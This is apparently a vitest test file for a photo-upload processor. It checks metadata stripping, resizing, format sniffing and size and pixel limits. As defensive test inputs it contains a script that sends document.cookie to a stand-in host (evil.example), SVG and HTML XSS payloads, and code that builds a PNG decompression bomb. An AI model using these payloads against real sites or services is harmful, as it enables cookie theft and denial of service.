// Tests for photo processing. Every input is generated with sharp (tests/support/photo-samples.ts) or by hand: no binary fixtures.

import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { ApiError } from '../lib/api-error.ts';
import { includes, jpegWithSecrets, noise, pixelOf, rotatedJpeg, SECRET_EXIF, SECRET_STRINGS, SECRET_XMP, solid } from '../../tests/support/photo-samples.ts';
import { PHOTO_LIMITS, processPhoto, sniffImageType } from './process-photo.ts';

const bytes = (text: string) => new TextEncoder().encode(text);

async function expectApiError(promise: Promise<unknown>, status: number, code: string) {
  const error = await promise.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(ApiError);
  expect(error).toMatchObject({ status, code });
  expect((error as ApiError).message).toMatch(/foto/i);
}

/** The markers of a JPEG's header segments, up to the start of scan. */
function jpegMarkers(jpeg: Uint8Array): number[] {
  const markers: number[] = [];
  let i = 2;
  while (i + 4 <= jpeg.length && jpeg[i] === 0xff) {
    const marker = jpeg[i + 1]!;
    markers.push(marker);
    if (marker === 0xda) break;
    i += 2 + ((jpeg[i + 2]! << 8) | jpeg[i + 3]!);
  }
  return markers;
}

/** A PNG chunk: length, type, data, CRC. */
function pngChunk(type: string, data: Uint8Array): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typeAndData = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typeAndData));
  return Buffer.concat([length, typeAndData, crc]);
}

describe('sniffImageType', () => {
  it('recognises JPEG, PNG and WebP by their magic bytes', async () => {
    expect(sniffImageType(await solid(8, 8).jpeg().toBuffer())).toBe('jpeg');
    expect(sniffImageType(await solid(8, 8).png().toBuffer())).toBe('png');
    expect(sniffImageType(await solid(8, 8).webp().toBuffer())).toBe('webp');
  });

  it('recognises nothing else', async () => {
    expect(sniffImageType(new Uint8Array())).toBeUndefined();
    expect(sniffImageType(new Uint8Array([0xff, 0xd8]))).toBeUndefined();
    expect(sniffImageType(bytes('<svg xmlns="http://www.w3.org/2000/svg"/>'))).toBeUndefined();
    expect(sniffImageType(bytes('RIFF\0\0\0\0WAVEfmt '))).toBeUndefined();
    expect(sniffImageType(await solid(8, 8).gif().toBuffer())).toBeUndefined();
    expect(sniffImageType(await solid(8, 8).tiff().toBuffer())).toBeUndefined();
  });
});

describe('processPhoto', () => {
  it('has the limits of the issue', () => {
    expect(PHOTO_LIMITS).toEqual({ maxBytes: 10 * 1024 * 1024, maxPixels: 40_000_000, maxSide: 2048, maxPhotos: 4 });
  });

  it('strips EXIF (incl. GPS), XMP, ICC and comments from a JPEG', async () => {
    const input = await jpegWithSecrets();
    // The input really carries all of it (GPS IFD pointer 0x8825, little-endian).
    const before = await sharp(input).metadata();
    expect(before.exif?.includes(Buffer.from([0x25, 0x88]))).toBe(true);
    expect(before.xmp && before.icc).toBeTruthy();
    expect(includes(input, 'Geheime opmerking') && includes(input, 'WGS-84')).toBe(true);

    const out = await processPhoto(input);
    expect(out).toMatchObject({ extension: 'jpg', width: 640, height: 480 });
    expect(sniffImageType(out.bytes)).toBe('jpeg');
    const after = await sharp(out.bytes).metadata();
    expect(after).toMatchObject({ format: 'jpeg', hasProfile: false, space: 'srgb' });
    expect(after.exif ?? after.xmp ?? after.icc ?? after.iptc).toBeUndefined();
    for (const secret of [...SECRET_STRINGS, 'Geheime opmerking']) expect(includes(out.bytes, secret), secret).toBe(false);
    // Only structural segments and JFIF APP0: no APP1..APP15 (EXIF, XMP, ICC, ...) and no COM.
    const markers = jpegMarkers(out.bytes);
    expect(markers.at(-1)).toBe(0xda);
    expect(markers.filter((m) => (m >= 0xe1 && m <= 0xef) || m === 0xfe)).toEqual([]);
  });

  it('resizes a 4000×3000 photo to 2048×1536 and a portrait one to 1536×2048', async () => {
    const landscape = await processPhoto(await noise(4000, 3000).jpeg({ quality: 70 }).toBuffer());
    expect(landscape).toMatchObject({ extension: 'jpg', width: 2048, height: 1536 });
    expect(await sharp(landscape.bytes).metadata()).toMatchObject({ width: 2048, height: 1536 });
    const portrait = await processPhoto(await solid(3000, 4000).png().toBuffer());
    expect(portrait).toMatchObject({ extension: 'png', width: 1536, height: 2048 });
  });

  it('keeps the size of a small photo', async () => {
    const out = await processPhoto(await noise(640, 427).jpeg().toBuffer());
    expect(out).toMatchObject({ width: 640, height: 427 });
    expect(await sharp(out.bytes).metadata()).toMatchObject({ width: 640, height: 427 });
  });

  it('applies the EXIF orientation and drops the tag', async () => {
    // Left half red, right half blue; orientation 6 means "rotate 90° clockwise to display".
    const input = await rotatedJpeg();
    expect((await sharp(input).metadata()).orientation).toBe(6);
    const out = await processPhoto(input);
    expect(out).toMatchObject({ width: 50, height: 100 });
    const meta = await sharp(out.bytes).metadata();
    expect(meta).toMatchObject({ width: 50, height: 100 });
    expect(meta.orientation).toBeUndefined();
    expect((await pixelOf(out.bytes, 25, 20))[0]).toBeGreaterThan(200); // top: red
    expect((await pixelOf(out.bytes, 25, 80))[2]).toBeGreaterThan(200); // bottom: blue
  });

  it('keeps a PNG with alpha a PNG, without its metadata', async () => {
    const input = await solid(300, 200, { r: 0, g: 128, b: 0, alpha: 0.5 }, 4).withExif(SECRET_EXIF).png().toBuffer();
    expect((await sharp(input).metadata()).exif).toBeDefined();
    const out = await processPhoto(input);
    expect(out).toMatchObject({ extension: 'png', width: 300, height: 200 });
    expect(sniffImageType(out.bytes)).toBe('png');
    const meta = await sharp(out.bytes).metadata();
    expect(meta).toMatchObject({ format: 'png', hasAlpha: true });
    expect(meta.exif ?? meta.xmp ?? meta.icc).toBeUndefined();
    for (const secret of SECRET_STRINGS) expect(includes(out.bytes, secret), secret).toBe(false);
    const { data } = await sharp(out.bytes).raw().toBuffer({ resolveWithObject: true });
    expect(data[3]).toBeGreaterThan(120);
    expect(data[3]).toBeLessThan(135);
  });

  it('keeps a palette PNG a palette PNG', async () => {
    const out = await processPhoto(await noise(200, 200).png({ palette: true, colours: 16 }).toBuffer());
    expect(out.extension).toBe('png');
    expect((await sharp(out.bytes).metadata()).isPalette).toBe(true);
  });

  it('keeps a WebP with alpha a WebP, without its metadata', async () => {
    const input = await solid(320, 240, { r: 200, g: 0, b: 0, alpha: 0.25 }, 4).withExif(SECRET_EXIF).withXmp(SECRET_XMP).webp().toBuffer();
    const before = await sharp(input).metadata();
    expect(before.exif && before.xmp).toBeTruthy();
    const out = await processPhoto(input);
    expect(out).toMatchObject({ extension: 'webp', width: 320, height: 240 });
    expect(sniffImageType(out.bytes)).toBe('webp');
    const meta = await sharp(out.bytes).metadata();
    expect(meta).toMatchObject({ format: 'webp', hasAlpha: true });
    expect(meta.exif ?? meta.xmp ?? meta.icc).toBeUndefined();
    for (const secret of SECRET_STRINGS) expect(includes(out.bytes, secret), secret).toBe(false);
    // Only the plain VP8/VP8L chunks (and ALPH/VP8X for alpha), no EXIF/XMP/ICCP chunks.
    for (const chunk of ['EXIF', 'XMP ', 'ICCP']) expect(includes(out.bytes, chunk), chunk).toBe(false);
  });

  it('drops a script appended after the JPEG end marker', async () => {
    const script = '<script>fetch("https://evil.example/?c="+document.cookie)</script>';
    const input = Buffer.concat([await noise(200, 150).jpeg().toBuffer(), Buffer.from(script)]);
    const out = await processPhoto(input);
    expect(out).toMatchObject({ extension: 'jpg', width: 200, height: 150 });
    expect(includes(out.bytes, '<script')).toBe(false);
    expect(includes(out.bytes, 'evil.example')).toBe(false);
    expect(out.bytes.at(-2)).toBe(0xff);
    expect(out.bytes.at(-1)).toBe(0xd9);
  });

  it('refuses SVG, HTML, text and other formats by their bytes (415)', async () => {
    const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>';
    await expectApiError(processPhoto(bytes(svg)), 415, 'geen_foto'); // whatever the upload was named: photo.jpg
    await expectApiError(processPhoto(bytes(`<?xml version="1.0"?>\n${svg}`)), 415, 'geen_foto');
    await expectApiError(processPhoto(bytes('<!DOCTYPE html><html><body><img src=x onerror=alert(1)></body></html>')), 415, 'geen_foto');
    await expectApiError(processPhoto(bytes('Dit is gewoon een tekstbestand.\n')), 415, 'geen_foto');
    await expectApiError(processPhoto(new Uint8Array()), 415, 'geen_foto');
    await expectApiError(processPhoto(await solid(16, 16).gif().toBuffer()), 415, 'geen_foto');
    await expectApiError(processPhoto(await solid(16, 16).tiff().toBuffer()), 415, 'geen_foto');
  });

  it('refuses truncated and corrupt photos (422)', async () => {
    const jpeg = await noise(800, 600).jpeg().toBuffer();
    await expectApiError(processPhoto(jpeg.subarray(0, Math.floor(jpeg.length * 0.6))), 422, 'foto_onleesbaar');
    await expectApiError(processPhoto(jpeg.subarray(0, 20)), 422, 'foto_onleesbaar');
    const png = await noise(400, 300).png().toBuffer();
    await expectApiError(processPhoto(png.subarray(0, Math.floor(png.length * 0.6))), 422, 'foto_onleesbaar');
    const webp = await noise(400, 300).webp().toBuffer();
    await expectApiError(processPhoto(webp.subarray(0, Math.floor(webp.length * 0.6))), 422, 'foto_onleesbaar');
    // JPEG magic bytes followed by HTML: sniffed as JPEG, but not decodable.
    await expectApiError(processPhoto(Buffer.from('\xff\xd8\xff<html><script>alert(1)</script></html>', 'latin1')), 422, 'foto_onleesbaar');
  });

  it('refuses a file over 10 MB (413) and accepts one of exactly 10 MB', async () => {
    const jpeg = await noise(64, 64).jpeg().toBuffer();
    const padded = (size: number) => {
      const out = new Uint8Array(size);
      out.set(jpeg);
      return out;
    };
    await expectApiError(processPhoto(padded(PHOTO_LIMITS.maxBytes + 1)), 413, 'foto_te_groot');
    expect(await processPhoto(padded(PHOTO_LIMITS.maxBytes))).toMatchObject({ width: 64, height: 64 });
    // The size check needs no image at all.
    await expectApiError(processPhoto(new Uint8Array(PHOTO_LIMITS.maxBytes + 1)), 413, 'foto_te_groot');
  });

  it('refuses a 48 MP single-colour PNG by its header (422)', async () => {
    const input = await solid(8000, 6000, '#ffffff').png({ compressionLevel: 9 }).toBuffer();
    expect(input.length).toBeLessThan(PHOTO_LIMITS.maxBytes);
    await expectApiError(processPhoto(input), 422, 'foto_te_veel_pixels');
  });

  it('refuses a 20000×20000 PNG pixel bomb without decoding it (422)', async () => {
    // A valid 400 MP 1-bit greyscale PNG of about 50 kB: decoded it would take 400 MB or more.
    const rows = Buffer.alloc(20_000 * (1 + 20_000 / 8));
    const ihdr = Buffer.alloc(13);
    ihdr.writeUInt32BE(20_000, 0);
    ihdr.writeUInt32BE(20_000, 4);
    ihdr.set([1, 0, 0, 0, 0], 8); // bit depth 1, greyscale, deflate, no filter, not interlaced
    const bomb = Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      pngChunk('IHDR', ihdr),
      pngChunk('IDAT', deflateSync(rows, { level: 9 })),
      pngChunk('IEND', new Uint8Array()),
    ]);
    expect(bomb.length).toBeLessThan(200_000);
    expect(await sharp(bomb, { limitInputPixels: false }).metadata()).toMatchObject({ width: 20_000, height: 20_000 });

    const rssBefore = process.memoryUsage().rss;
    const started = performance.now();
    await expectApiError(processPhoto(bomb), 422, 'foto_te_veel_pixels');
    expect(process.memoryUsage().rss - rssBefore).toBeLessThan(64 * 1024 * 1024);
    expect(performance.now() - started).toBeLessThan(2_000);
  });
});
